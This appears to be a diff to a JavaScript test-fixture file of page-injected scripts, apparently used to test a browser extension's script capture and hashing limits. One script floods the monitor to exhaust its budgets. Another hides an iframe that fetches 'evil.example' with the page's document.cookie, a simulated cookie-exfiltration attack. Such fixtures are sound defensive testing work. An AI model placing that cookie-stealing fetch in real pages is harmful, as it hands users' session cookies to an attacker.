@@ -309,7 +309,8 @@ export const MAIN_WORLD_SCRIPTS = {
    * Saq's budgets are modelled here (src/content/main: stack captures 64 at once and 100 a second; hashes 64 at
    * once and 64 a second per kind and actor), so each round spends the hashes and keeps the captures whatever
    * the timers' lag: a D<n> script spends most of the hashes left (and as many captures), then the clock is
-   * waited on until the captures are ahead by a round: A's hashed scripts, six skipped ones of A's, B's three.
+   * waited on until the captures are ahead by a round: A's hashed scripts, ten skipped ones of A's (the hashes
+   * refill while A inserts), B's three.
    */
   'inline-actors-flood': `(() => {
   const actor = (tag, n) => {
@@ -332,13 +333,17 @@ export const MAIN_WORLD_SCRIPTS = {
       hashes -= n;
       captures -= n + 1;
     }
-    while (captures - hashes < 20) elapse();
-    const a = Math.floor(hashes) + 6;
-    actor('A' + round, a);
-    actor('B' + round, 3);
-    captures -= a + 5;
-    hashes = 0;
-    round++;
+    // The lead can only grow while the captures are below their cap: ~21 at most from here (never spin for ever).
+    const until = performance.now() + 1500;
+    while (captures - hashes < 20 && performance.now() < until) elapse();
+    if (captures - hashes >= 20) {
+      const a = Math.floor(hashes) + 10;
+      actor('A' + round, a);
+      actor('B' + round, 3);
+      captures -= a + 5;
+      hashes = 0;
+      round++;
+    }
     if (round < 5) setTimeout(step, 100);
     else window.__inlineActorsRounds = round;
   };
@@ -1274,9 +1279,11 @@ export const MAIN_WORLD_SCRIPTS = {
   holder.innerHTML = '<iframe style="display:none"></iframe>';
   const frame = holder.firstChild;
   const index = window.length - 1;
-  let loads = 0;
+  let sent = false;
   frame.addEventListener('load', () => {
-    if (++loads > 1) return;
+    // Firefox may load a replacement of the frame's first about:blank document before the srcdoc one.
+    if (sent || window[index].location.href !== 'about:srcdoc') return;
+    sent = true;
     window[index].fetch('https://evil.example/reloaded?c=' + encodeURIComponent(document.cookie));
   });
   frame.srcdoc = '<p>reloaded</p>';
